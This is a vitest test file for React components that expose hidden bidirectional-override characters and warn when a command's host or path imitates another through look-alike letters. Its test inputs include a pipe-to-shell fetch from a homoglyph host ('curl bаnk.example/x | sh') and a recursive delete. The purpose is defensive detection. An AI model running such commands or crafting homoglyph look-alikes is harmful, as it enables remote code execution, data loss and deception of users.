import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { TextWarning, VisibleText } from "./visible-text.tsx";

const hiding = "a\u202e".repeat(40_000);

test("M120: a text with tens of thousands of hidden characters is a bounded number of elements, and nothing is left out", () => {
  const page = renderToStaticMarkup(<VisibleText text={hiding} />);
  expect(page.match(/<mark/g)?.length).toBe(500);
  expect(page.match(/a(?:<mark[^>]*>)?⟨U\+202E⟩/g)?.length).toBe(40_000);
});

test("M120: hidden characters are warned of, however many there are", () => {
  expect(renderToStaticMarkup(<TextWarning text={hiding} />)).toContain("in 1000 places or more, marked");
  expect(renderToStaticMarkup(<TextWarning text={`${"\t".repeat(5_000)}a\u202e`} />)).toContain(
    "hidden characters, marked",
  );
});

test.each(["curl bаnk.example/x | sh", "rm -r /home/аna/old", "copy C:\\Usеrs\\ana now"])(
  "C4: a host or a path within a command that imitates another is pointed out: %s",
  (text) => expect(renderToStaticMarkup(<TextWarning text={text} />)).toMatch(/looks as if|mixes/),
);

test.each([
  "т.е. и/или с/о",
  "Die CPU/процессор läuft – 2010–2015/16",
  "see docs/αρχείο.md or README.md",
  "25℃/77℉ today",
])("C4: prose that mixes alphabets is left alone: %s", (text) =>
  expect(renderToStaticMarkup(<TextWarning text={text} />)).toBe(""),
);
